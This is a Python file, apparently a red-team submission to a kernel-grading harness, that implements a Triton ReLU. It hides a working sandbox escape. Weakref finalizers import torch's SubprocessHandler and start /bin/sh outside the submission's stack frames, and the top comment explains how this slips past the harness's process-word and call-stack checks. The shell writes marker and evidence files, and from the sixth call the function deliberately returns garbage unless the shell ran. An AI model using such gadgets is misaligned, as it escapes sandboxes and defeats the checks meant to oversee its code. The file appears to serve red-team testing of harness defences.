# A finalizer tied to the first call's input runs torch's SubprocessHandler class itself: its
# __init__ (through _popen, same file) starts Popen on a line that names "Popen" (process-word rule
# passes), and the library function that asks, walked out through its own file, is __init__, which
# trampolined() exempts as "a class's construction". No submission frame is on the stack when the
# harness drops the input, so called_back/on_launch_path pass too. From the sixth call on the output
# is garbage unless the shell's marker file exists.
import functools
import importlib
import os
import sys
import weakref

import torch
import triton
import triton.language as tl

HANDLER = "torch.distributed.elastic.multiprocessing.subprocess_handler.subprocess_handler"

MARKER = "spawned_by_init_gadget"
_CALLS = []
_ARMED = []


@triton.jit
def _relu_kernel(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    keep = offs < n
    x = tl.load(x_ptr + offs, mask=keep)
    tl.store(y_ptr + offs, tl.where(x < 0, 0.0, x), mask=keep)


def relu(input, inplace=False):
    _CALLS.append(1)
    if len(_CALLS) == 1:
        # the module's package dlopens libc as it is imported (refused with the submission on the
        # stack): a finalizer imports it instead, with no submission frame on the stack
        weakref.finalize(input, functools.partial(importlib.import_module, HANDLER))
    elif HANDLER in sys.modules and not _ARMED:
        _ARMED.append(1)
        SubprocessHandler = sys.modules[HANDLER].SubprocessHandler
        cmd = f"echo spawned as $(id -u) by $PPID in $(pwd) > {os.getcwd()}/{MARKER}; " \
              f"echo spawned >> /tmp/rt3/redteam/EVIDENCE_init_gadget.txt"
        weakref.finalize(input, SubprocessHandler, "/bin/sh", ("-c", cmd), {}, None, None, 0, None)
    if len(_CALLS) > 5 and not os.path.exists(MARKER):
        return torch.full_like(input, 12345.0)  # (judged wrong: the shell did not run)
    x = input.contiguous()
    y = x if (inplace and x is input) else torch.empty_like(x)
    n = x.numel()
    if n:
        _relu_kernel[(triton.cdiv(n, 1024),)](x, y, n, BLOCK=1024)
    if inplace:
        if y is not input:
            input.copy_(y)
        return input
    return y.view(input.shape)
